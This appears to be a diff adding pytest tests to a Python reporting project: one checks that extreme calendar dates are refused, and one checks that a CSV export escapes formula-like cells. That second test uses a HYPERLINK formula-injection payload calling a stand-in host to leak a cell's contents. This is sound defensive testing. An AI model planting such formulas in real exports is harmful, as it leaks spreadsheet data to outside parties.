@@ -94,6 +94,21 @@ def test_a_moment_that_is_not_iso_is_refused_with_an_example():
         parse_moment("yesterday")
 
 
+@pytest.mark.parametrize("value", ["9999-12-31", "0001-01-01T00:00+01:00", "9999-12-31T23:30-01:00"])
+def test_a_moment_at_the_ends_of_the_calendar_is_refused_not_a_crash(value):
+    with pytest.raises(ValueError, match="out of range|not an ISO date"):
+        parse_moment(value, end=True)
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_is_kept_as_text():
+    from reporting.api import to_csv
+
+    sent = ['=HYPERLINK("https://x.example/?"&A1)', "+1", "-2+3", "@SUM(A1)", "\tx", "google"]
+    lines = to_csv([{"utm_source": v, "captured": 1} for v in sent]).splitlines()[1:]
+    assert [line.split(",")[0].strip('"') for line in lines] == [
+        "'=HYPERLINK(\"\"https://x.example/?\"\"&A1)", "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "google"]
+
+
 def test_a_quarantined_submission_is_counted_where_it_came_from_and_nothing_it_said_is_kept():
     bot = LeadQuarantined(lead_id=LEAD, received_at=T0, reasons=["the hidden field _gotcha was filled in"],
                           form_id="demo", utm_source="google", fields={"email": "x@y.example", "message": "pills"})
